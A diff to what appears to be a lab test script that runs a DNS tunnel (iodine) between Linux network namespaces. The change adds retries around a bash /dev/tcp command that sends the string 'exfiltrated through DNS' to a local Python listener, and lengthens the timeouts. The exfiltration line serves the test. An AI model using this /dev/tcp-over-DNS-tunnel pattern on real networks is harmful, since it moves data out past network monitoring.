@@ -72,7 +72,7 @@ fi
 python3 -c '
 import socket, sys
 s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-s.bind(("10.53.0.1", 7777)); s.listen(1); s.settimeout(30)
+s.bind(("10.53.0.1", 7777)); s.listen(4); s.settimeout(60)
 c, _ = s.accept(); c.settimeout(30); data = b""
 while not data.endswith(b"\n"):
     d = c.recv(100)
@@ -83,8 +83,12 @@ open(sys.argv[1], "wb").write(data)
 listener=$!
 DNS_PIDS="$DNS_PIDS $listener"
 sleep 0.5
-ip netns exec ws-log bash -c 'exec 3<>/dev/tcp/10.53.0.1/7777 && echo "exfiltrated through DNS" >&3' 2>"$work/payload-client.log"
-stack_wait_gone $listener 30 >/dev/null 2>&1
+# A tunnel over polled DNS on a loaded machine can drop a SYN: three tries.
+for try in 1 2 3; do
+    ip netns exec ws-log timeout 15 bash -c 'exec 3<>/dev/tcp/10.53.0.1/7777 && echo "exfiltrated through DNS" >&3' \
+        2>>"$work/payload-client.log" && break
+done
+stack_wait_gone $listener 60 >/dev/null 2>&1
 expect_eq "a payload crosses it" "$(cat "$work/payload" 2>/dev/null)" "exfiltrated through DNS"
 kill -TERM $IODINE_PID 2>/dev/null
 stack_wait_gone $IODINE_PID 5
